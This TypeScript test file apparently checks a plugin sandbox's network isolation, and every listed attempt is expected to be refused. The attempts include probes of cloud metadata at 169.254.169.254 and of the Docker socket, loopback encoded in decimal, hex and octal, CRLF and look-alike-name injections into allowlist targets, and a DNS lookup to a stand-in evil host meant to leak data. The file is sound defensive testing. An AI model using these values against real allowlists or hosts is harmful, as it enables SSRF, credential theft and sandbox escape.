/** The network, of a plugin that has none, and of one that has a little. */
import type { Attempt } from "../attempt.ts";

const abroad = { untried: "tests reach nothing but this machine" };

export const withoutNetwork: readonly Attempt[] = [
  {
    name: "connect to the gateway on its loopback",
    run: ({ hear, host }) => hear(host.port, "127.0.0.1"),
    inside: /^error: ECONNREFUSED/,
    outside: /the-secret/,
  },
  {
    name: "the same by fetch",
    run: async ({ host }) => (await fetch(`http://localhost:${host.port}/`)).text(),
    inside: /^error: (ConnectionRefused|ECONNREFUSED)/,
    outside: /the-secret/,
  },
  {
    name: "the same by IPv6, mapped",
    run: ({ hear, host }) => hear(host.port, "::ffff:127.0.0.1"),
    inside: /^error: (ECONNREFUSED|ENETUNREACH)/,
    outside: /the-secret/,
  },
  {
    name: "the same by 0.0.0.0",
    run: ({ hear, host }) => hear(host.port, "0.0.0.0"),
    inside: /^error: (ECONNREFUSED|ENETUNREACH)/,
    outside: /the-secret/,
  },
  {
    name: "connect to the gateway on the network",
    run: ({ hear, host }) => hear(host.port, host.addresses[0] ?? "127.0.0.1"),
    inside: /^error: (ECONNREFUSED|ENETUNREACH)/,
    outside: /the-secret/,
  },
  {
    name: "connect to a machine of the network, and learn at once that there is none",
    run: ({ hear }) => hear(80, "10.255.255.1"),
    inside: /^error: (ENETUNREACH|ECONNREFUSED)/,
    outside: abroad,
  },
  {
    name: "connect to a cloud's metadata",
    run: ({ hear }) => hear(80, "169.254.169.254"),
    inside: /^error: (ENETUNREACH|ECONNREFUSED)/,
    outside: abroad,
  },
  {
    name: "connect to the internet",
    run: ({ hear }) => hear(443, "93.184.216.34"),
    inside: /^error: (ENETUNREACH|ECONNREFUSED)/,
    outside: abroad,
  },
  {
    name: "connect to the internet by IPv6",
    run: ({ hear }) => hear(443, "2606:4700::1"),
    inside: /^error: (ENETUNREACH|EADDRNOTAVAIL|ECONNREFUSED)/,
    outside: abroad,
  },
  {
    name: "look a name up",
    run: ({ dns }) => dns.lookup("example.com"),
    inside: /^error: \w*(EAI_AGAIN|ENOTFOUND|ECONNREFUSED|EAI_FAIL|ESERVFAIL)/,
    outside: abroad,
  },
  {
    name: "ask a public resolver",
    run: ({ dns }) => {
      const resolver = new dns.Resolver();
      resolver.setServers(["1.1.1.1"]);
      return resolver.resolve4("example.com");
    },
    inside: /^error: \w*(ECONNREFUSED|ETIMEOUT|ESERVFAIL|ENOTFOUND)/,
    outside: abroad,
  },
  {
    name: "send a datagram to the gateway",
    run: ({ dgram, host }) =>
      new Promise((resolve, reject) => {
        const socket = dgram.createSocket("udp4");
        socket.on("error", reject);
        socket.on("message", (said) => resolve(String(said)));
        socket.connect(host.udpPort, "127.0.0.1", () => socket.send("hello"));
      }),
    inside: /^error: (ECONNREFUSED|LATE)/,
    outside: /the-secret/,
  },
  {
    name: "send a datagram to the internet",
    run: ({ dgram }) =>
      new Promise((resolve, reject) =>
        dgram.createSocket("udp4").send("hello", 53, "8.8.8.8", (error) => (error ? reject(error) : resolve("sent"))),
      ),
    inside: /^error: (ENETUNREACH|ECONNREFUSED)/,
    outside: abroad,
  },
  {
    name: "connect to an abstract socket",
    run: ({ hearPath, host }) => hearPath(host.abstract),
    inside: /^error: (ECONNREFUSED|ENOENT)/,
    outside: /the-secret/,
  },
  {
    name: "connect to a socket by its path",
    run: ({ hearPath, host }) => hearPath(host.socket),
    inside: /^error: (ENOENT|ECONNREFUSED)/,
    outside: /the-secret/,
  },
  {
    name: "connect to Docker",
    run: ({ hearPath }) => hearPath("/var/run/docker.sock"),
    inside: /^error: (ENOENT|ECONNREFUSED)/,
    outside: { untried: "there may be none" },
  },
  ...(["readableSocket", "writableSocket"] as const).flatMap((which): Attempt[] => {
    const where = which === "readableSocket" ? "read" : "write";
    return [
      {
        name: `connect to a socket in a folder that it may ${where}`,
        given: [which],
        run: ({ hearPath, host }, which) => hearPath(host[which as "readableSocket"]),
        inside: /^error: (EAFNOSUPPORT|ECONNREFUSED)/,
        outside: /the-secret/,
      },
      {
        name: `the same by fetch, of one that it may ${where}`,
        given: [which],
        run: async ({ host }, which) => (await fetch("http://x/", { unix: host[which as "readableSocket"] })).text(),
        inside: /^error: (EAFNOSUPPORT|FailedToOpenSocket|ConnectionRefused)/,
        outside: /the-secret/,
      },
    ];
  }),
  {
    name: "listen on a socket of its own",
    run: ({ host }) => {
      Bun.listen({ unix: `${host.data}/own.sock`, socket: { data: () => undefined } }).stop();
    },
    inside: /^error: /,
    outside: /^value/,
  },
  {
    name: "ask for a way out that it does not have",
    run: ({ ask, host }) => ask(`127.0.0.1:${host.port}`),
    inside: /^error: CAPABILITY_MISSING/,
    outside: { untried: "there is nobody to ask" },
  },
  {
    name: "see the machine's interfaces",
    run: ({ os }) => Object.keys(os.networkInterfaces()),
    inside: /^value: \["lo"\]|^value: \[\]/,
    outside: /^value/,
  },
];

const refused = /^error: PLUGIN_PERMISSION/;
/** PORT is the gateway's. */
const ask = (title: string, target: string, inside: RegExp = refused): Attempt => ({
  name: title,
  given: [target],
  run: ({ ask, host }, target) => ask(String(target).replaceAll("PORT", String(host.port))),
  inside,
  outside: { untried: "there is nobody to ask" },
});
const gone = /^error: (ECONNRESET|ECONNREFUSED|CLOSED|ConnectionClosed|ConnectionRefused|UNKNOWN|ERR_SOCKET_CLOSED)/;

/** Declared are `api.example.com:443`, `*.wild.example:80`, `moving.example.com:443` and `door.example.com:80`, which redirects. */
export const withNetwork: readonly Attempt[] = [
  {
    name: "look up a name that is not declared",
    run: ({ dns }) => dns.lookup("evil.example.com"),
    inside: /^error: \w*ENOTFOUND/,
    outside: abroad,
  },
  {
    name: "tell something by looking it up",
    run: ({ dns }) => dns.resolveTxt("what-it-knows.evil.example.com"),
    inside: /^error: \w*ENOTFOUND/,
    outside: abroad,
  },
  {
    name: "fetch from a name that is not declared",
    run: async () => (await fetch("https://evil.example.com/")).text(),
    inside: /^error: (ConnectionRefused|ENOTFOUND|DNSResolveFailed|FailedToOpenSocket|ERR_NAME_NOT_RESOLVED)/,
    outside: abroad,
  },
  {
    name: "connect to a port that is not declared, of a name that is",
    run: ({ hear }) => hear(8443, "api.example.com"),
    inside: /^error: ECONNREFUSED/,
    outside: abroad,
  },
  {
    name: "connect to a port that is declared for another name",
    run: ({ hear }) => hear(80, "api.example.com", "GET / HTTP/1.1\r\n\r\n"),
    inside: gone,
    outside: abroad,
  },
  {
    name: "connect to a private address at a declared port",
    run: ({ hear }) => hear(443, "10.0.0.1", "hello"),
    inside: gone,
    outside: abroad,
  },
  {
    name: "connect to a cloud's metadata at a declared port",
    run: ({ hear }) => hear(80, "169.254.169.254", "GET /latest HTTP/1.1\r\n\r\n"),
    inside: gone,
    outside: abroad,
  },
  {
    name: "connect to the gateway on its loopback",
    run: ({ hear, host }) => hear(host.port, "127.0.0.1"),
    inside: /^error: ECONNREFUSED/,
    outside: /the-secret/,
  },
  {
    name: "connect to the gateway on the network",
    run: ({ hear, host }) => hear(host.port, host.addresses[0] ?? "127.0.0.1"),
    inside: /^error: ECONNREFUSED/,
    outside: /the-secret/,
  },
  {
    name: "follow a redirect to the gateway",
    run: async () => (await fetch("http://door.example.com/gateway")).text(),
    inside: /^error: /,
    outside: abroad,
  },
  {
    name: "follow a redirect to a private address",
    run: async () => (await fetch("http://door.example.com/private")).text(),
    inside: /^error: /,
    outside: abroad,
  },
  {
    name: "follow a name that moved to a private address",
    run: async ({ hear }) => [
      await hear(443, "moving.example.com", "one"),
      await hear(443, "moving.example.com", "two").catch((error) => error.code),
    ],
    inside: /^value: \["ONE","(ECONNRESET|CLOSED)"\]/,
    outside: abroad,
  },
  { name: "follow a name that leads to both", run: ({ hear }) => hear(443, "both.wild.example", "hello"), inside: gone, outside: abroad },
  ask("ask for the gateway's loopback", "127.0.0.1:PORT"),
  ask("ask for it as localhost", "localhost:PORT"),
  ask("ask for it by IPv6", "[::1]:PORT"),
  ask("ask for it by IPv6, mapped", "[::ffff:127.0.0.1]:PORT"),
  ask("ask for it in one number", "2130706433:PORT"),
  ask("ask for it in hexadecimal", "0x7f000001:PORT"),
  ask("ask for it in octal", "0177.0.0.1:PORT"),
  ask("ask for it shortened", "127.1:PORT"),
  ask("ask for it with a dot", "127.0.0.1.:PORT"),
  ask("ask for nobody's address", "0.0.0.0:PORT"),
  ask("ask for a name that only begins right", "api.example.com.evil.net:443"),
  ask("ask for a name that only ends right", "evilapi.example.com:443"),
  ask("ask for a name that only looks right", "xn--pi-6kc.example.com:443"),
  ask("ask for a name above the wildcard", "wild.example:80"),
  ask("ask for what is declared, with a dot and in capitals", "API.example.com.:443", /^value: "connection"/),
  ask("ask for two in one line", "api.example.com:443 127.0.0.1:PORT"),
  ask("ask for one, and another on the next line", "api.example.com:443\r\n127.0.0.1:PORT"),
  ask("ask for one as somebody", "evil.example.com:443@api.example.com:443"),
  ask("ask with a line's end in the name", "api.example.com\n.evil.net:443"),
  ask("ask for a page instead of a connection", "http://127.0.0.1:PORT/"),
  {
    name: "answer for others' names",
    run: ({ fs }) => fs.renameSync("/etc/hosts", "/etc/resolv.conf"),
    inside: /^error: EROFS/,
    outside: { untried: "it would change this machine" },
  },
];
